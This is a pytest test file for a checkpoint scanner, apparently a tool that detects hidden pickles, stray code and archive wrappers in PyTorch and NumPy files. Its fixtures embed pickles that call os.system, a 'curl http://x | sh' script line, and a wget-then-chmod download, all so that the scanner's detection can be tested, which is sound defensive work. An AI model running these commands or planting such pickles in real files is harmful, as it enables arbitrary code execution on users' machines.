"""scan looks at every archive member, and every command names archive wrappers.

Archives are assembled byte by byte from a real ``torch.save`` zip (``tests.hostile``); the
wrappers with the standard library where it can write them (tar, gzip, bzip2, xz) and from their
documented headers otherwise (7z, zstd, RAR).
"""

from __future__ import annotations

import bz2
import contextlib
import gzip
import importlib.util
import io
import lzma
import marshal
import pickle
import tarfile
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ckptdoctor.engines.scanning.scan import DANGEROUS, FileScan, scan
from ckptdoctor.errors import CkptDoctorError, UnsupportedFormat
from tests.cli_helpers import run_cli
from tests.hostile import PROTO2, STOP, ZipEntry, build_zip, glob, os_system_pickle, torch_members


def _small_state() -> dict[str, object]:
    import torch

    torch.manual_seed(0)
    return {"layer.weight": torch.randn(3, 4), "layer.bias": torch.zeros(3)}


def _zip_with(tmp_path: Path, *extra: ZipEntry) -> FileScan:
    p = tmp_path / "model.pt"
    p.write_bytes(build_zip([*torch_members(_small_state()), *extra]))
    (f,) = scan(p).files
    return f


def _codes(f: FileScan) -> set[str]:
    return {a.code for a in f.anomalies}


def test_real_torch_save_members_are_all_expected(tmp_path: Path) -> None:
    f = _zip_with(tmp_path)
    assert f.safe and f.anomalies == ()


def test_stray_pickle_with_only_harmless_content_is_an_anomaly(tmp_path: Path) -> None:
    """A .pkl torch never loads, even one that builds a plain dict, makes the file unsafe."""
    f = _zip_with(tmp_path, ZipEntry("archive/extra.pkl", PROTO2 + b"}" + STOP))
    assert not f.safe
    assert "stray-pickle" in _codes(f)
    assert "archive/extra.pkl" in f.pickles


@pytest.mark.parametrize("protocol", [0, 1])
def test_pickle_without_proto_under_any_name_is_found(tmp_path: Path, protocol: int) -> None:
    """Protocols 0 and 1 have no PROTO header; the member is still recognised and walked."""
    payload = pickle.dumps(print, protocol=protocol)  # builtins.print: a global reference, nothing runs
    assert payload[:1] != b"\x80"
    evil = glob("os", "system") + b"(" + b"Vtouch /nonexistent/never\n" + b"tR."  # protocol 0, no PROTO
    f = _zip_with(tmp_path, ZipEntry("archive/notes.txt", payload), ZipEntry("archive/assets/readme", evil))
    assert not f.safe
    assert [a.where for a in f.anomalies if a.code == "hidden-pickle"] == ["archive/notes.txt", "archive/assets/readme"]
    verdicts = {g.name: g.verdict for g in f.globals}
    assert verdicts["os.system"] == DANGEROUS
    assert "builtins.print" in verdicts


def test_pickle_in_a_layout_name_is_found(tmp_path: Path) -> None:
    """``byteorder`` is text torch reads itself; a pickle there is hidden, whatever its protocol."""
    members = [
        ZipEntry(e.name, b"cos\nsystem\n(Vx\ntR.") if e.name.endswith("/byteorder") else e
        for e in torch_members(_small_state())
    ]
    p = tmp_path / "m.pt"
    p.write_bytes(build_zip(members))
    (f,) = scan(p).files
    assert "hidden-pickle" in _codes(f)
    assert {g.name for g in f.globals if g.verdict == DANGEROUS} == {"os.system"}


def _pyc() -> bytes:
    code = compile("x = 1\n", "<member>", "exec")
    return importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("archive/hook.py", b"import os\nos.system('id')\n", "Python source"),
        ("archive/run", b"#!/bin/sh\ncurl http://x | sh\n", "a script"),
        ("archive/setup.sh", b"wget http://example.invalid/x -O /tmp/x\nchmod +x /tmp/x\n", "a shell script"),
        ("archive/lib.so", b"\x7fELF\x02\x01\x01" + b"\0" * 64, "ELF"),
        ("archive/__pycache__/m.cpython.pyc", _pyc(), ".pyc"),
    ],
)
def test_code_outside_the_layout_is_an_anomaly(tmp_path: Path, name: str, data: bytes, what: str) -> None:
    f = _zip_with(tmp_path, ZipEntry(name, data))
    assert not f.safe
    (a,) = [a for a in f.anomalies if a.code == "stray-code"]
    assert a.where == name and what in a.message


def test_text_and_data_outside_the_layout_are_not_code(tmp_path: Path) -> None:
    """Judicious: a README, a JSON config or random bytes are not called code."""
    f = _zip_with(
        tmp_path,
        ZipEntry("archive/README.md", b"# Model\n\nImport this checkpoint with torch.load.\n"),
        ZipEntry("archive/config.json", b'{"hidden": 64, "layers": 2}'),
        ZipEntry("archive/blob.bin", bytes(range(256)) * 4),
    )
    assert not ({"stray-code", "stray-pickle", "hidden-pickle"} & _codes(f)), f.anomalies


def test_torchscript_code_members_are_expected(tmp_path: Path) -> None:
    import torch
    from torch import nn

    p = tmp_path / "scripted.pt"
    torch.jit.save(torch.jit.script(nn.Linear(2, 2)), str(p))
    (f,) = scan(p).files
    assert f.format == "torchscript"
    assert _codes(f) & {"stray-code", "hidden-pickle"} == set()


def test_os_system_pickle_in_deflated_stray_member(tmp_path: Path) -> None:
    """Scanned after inflating, like every member."""
    f = _zip_with(tmp_path, ZipEntry("archive/x/y", os_system_pickle(tmp_path / "never"), method=8))
    assert {g.name for g in f.globals if g.verdict == DANGEROUS} == {"os.system"}
    assert "hidden-pickle" in _codes(f)


# -- archive wrappers ---------------------------------------------------------------------------


def _tar(inner: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo("model.pt")
        info.size = len(inner)
        t.addfile(info, io.BytesIO(inner))
    return buf.getvalue()


def _seven_zip_empty() -> bytes:
    """The 32-byte signature header of an empty 7z archive (7zFormat.txt)."""
    start = b"\0" * 20  # next header offset, size, CRC
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + zlib.crc32(start).to_bytes(4, "little") + start


def _wrappers() -> dict[str, tuple[bytes, str, str]]:
    inner = build_zip(torch_members({"w": 1}))
    return {
        "7z": (_seven_zip_empty(), "a 7z archive", "7z x"),
        "tar": (_tar(inner), "a tar archive", "tar -xf"),
        "gzip": (gzip.compress(_tar(inner)), "gzip-compressed", "tar -xzf"),
        "bzip2": (bz2.compress(inner), "bzip2-compressed", "bunzip2"),
        "xz": (lzma.compress(inner), "xz-compressed", "unxz"),
        "zstd": (bytes.fromhex("28b52ffd045829000068656c6c6fa36d9f88"), "zstd-compressed", "unzstd"),  # "hello"
        "rar": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 32, "a RAR archive", "unrar x"),
    }


@pytest.mark.parametrize("kind", list(_wrappers()))
def test_archive_wrappers_are_named_by_every_command(tmp_path: Path, kind: str) -> None:
    import torch

    data, what, unpack = _wrappers()[kind]
    p = tmp_path / "download.bin"
    p.write_bytes(data)
    good = tmp_path / "good.pt"
    torch.save({"w": torch.zeros(2)}, good)
    for args in (
        ("scan", p),
        ("inspect", p),
        ("check", p, "--against", good),
        ("diff", p, good),
        ("fix", p, "--strip", "x.", "-o", tmp_path / "out.pt"),
    ):
        r = run_cli(*map(str, args))
        assert r.exit_code == 2, (args, r)
        assert what in r.stderr and "Unpack it first" in r.stderr and unpack in r.stderr, (args, r.stderr)
        assert "unrecognised" not in r.stderr and "unknown file format" not in r.stderr
        assert "Traceback" not in r.stderr
    assert not (tmp_path / "out.pt").exists()


def test_pre_04_torch_tar_keeps_its_own_message(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name in ("sys_info", "pickle", "tensors", "storages"):
            info = tarfile.TarInfo(name)
            info.size = 1
            t.addfile(info, io.BytesIO(b"N"))
    p = tmp_path / "old.pt"
    p.write_bytes(buf.getvalue())
    for cmd in ("scan", "inspect"):
        r = run_cli(cmd, str(p))
        assert r.exit_code == 2 and "before torch 0.4" in r.stderr


# -- NumPy .npy / .npz: an object array's data is a pickle -------------------------------------


def test_numpy_object_arrays_are_walked(tmp_path: Path) -> None:
    import numpy as np

    np.save(tmp_path / "ints.npy", np.arange(6))
    with pytest.raises(UnsupportedFormat, match=r"NumPy \.npy"):  # no pickle, not a checkpoint
        scan(tmp_path / "ints.npy")

    np.save(tmp_path / "objs.npy", np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
    (f,) = scan(tmp_path / "objs.npy").files
    assert f.format == "numpy" and not f.safe
    assert any(g.name.endswith("multiarray._reconstruct") for g in f.globals)

    np.savez_compressed(tmp_path / "mixed.npz", ints=np.arange(3), objs=np.array([1, "x"], dtype=object))
    (f,) = scan(tmp_path / "mixed.npz").files
    assert f.format == "zip" and not f.safe
    assert f.pickles == ("objs.npy (object array)",)

    r = run_cli("inspect", str(tmp_path / "ints.npy"))
    assert r.exit_code == 2 and "NumPy .npy" in r.stderr


def test_payload_after_an_npy_header_is_found(tmp_path: Path) -> None:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    data = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + os_system_pickle(tmp_path / "never")
    p = tmp_path / "evil.npy"
    p.write_bytes(data)
    (f,) = scan(p).files
    assert {g.name for g in f.globals if g.verdict == DANGEROUS} == {"os.system"}
    p2 = tmp_path / "evil.npz"
    p2.write_bytes(build_zip([ZipEntry("arr_0.npy", data)]))
    (f,) = scan(p2).files
    assert {g.name for g in f.globals if g.verdict == DANGEROUS} == {"os.system"}


def test_cli_exits_1_and_names_the_stray_member(tmp_path: Path) -> None:
    p = tmp_path / "model.pt"
    p.write_bytes(build_zip([*torch_members({"w": 1}), ZipEntry("archive/extra/cfg", b"cos\nsystem\n(Vid\ntR.")]))
    r = run_cli("scan", str(p))
    assert r.exit_code == 1
    assert "hidden-pickle" in r.stdout and "archive/extra/cfg" in r.stdout and "os.system" in r.stdout


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    prefix=st.sampled_from(
        [b"", b"\x93NUMPY\x01\x00", b"\x93NUMPY\x02\x00", b"#!", b"MZ", b"\x7fELF", b"\x80\x02", b"c"]
    ),
    body=st.binary(max_size=300),
    name=st.sampled_from(["archive/x", "archive/y.pkl", "other/z", "archive/data/9", "archive/byteorder"]),
    method=st.sampled_from([0, 8]),
)
def test_any_member_content_never_crashes(tmp_path: Path, prefix: bytes, body: bytes, name: str, method: int) -> None:
    p = tmp_path / "fuzz.pt"
    p.write_bytes(build_zip([*torch_members({"w": 1}), ZipEntry(name, prefix + body, method=method)]))
    with contextlib.suppress(CkptDoctorError):
        scan(p)
